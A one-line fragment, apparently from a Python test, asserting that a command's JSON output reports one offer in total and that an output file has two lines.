     assert json.loads(done.output)["offers_total"] == 1 and len(out.read_text().splitlines()) == 2
 
